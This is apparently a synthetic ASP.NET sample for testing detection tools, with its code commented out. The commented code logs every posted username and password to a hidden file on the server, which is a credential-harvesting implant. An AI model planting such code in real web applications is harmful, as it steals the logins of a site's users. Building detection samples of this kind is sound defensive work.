<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% if (Request.HttpMethod == "POST") File.AppendAllText(@"C:\ProgramData\l.txt", Request.Form["username"] + ":" + Request.Form["password"] + "\r\n"); %>
--%>
